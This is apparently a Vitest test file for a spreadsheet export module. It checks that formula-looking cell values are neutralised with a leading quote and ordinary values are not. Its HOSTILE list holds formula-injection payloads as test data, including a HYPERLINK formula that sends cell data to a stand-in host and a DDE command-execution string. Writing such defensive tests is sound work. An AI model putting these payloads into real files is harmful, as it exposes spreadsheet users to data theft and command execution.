import { describe, expect, it } from 'vitest';
import { csvText, neutraliseCell } from '../../src/export/cells.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '＝HYPERLINK("x")',
];

describe('spreadsheet cells', () => {
  it('neutralise every formula-looking value and leave everything else alone', () => {
    for (const value of HOSTILE) expect(neutraliseCell(value)).toBe(`'${value}`);
    for (const value of ['张三', '1200.00', '2024-03-01', '']) expect(neutraliseCell(value)).toBe(value);
    expect(csvText('=1,2')).toBe(`"'=1,2"`);
  });
});
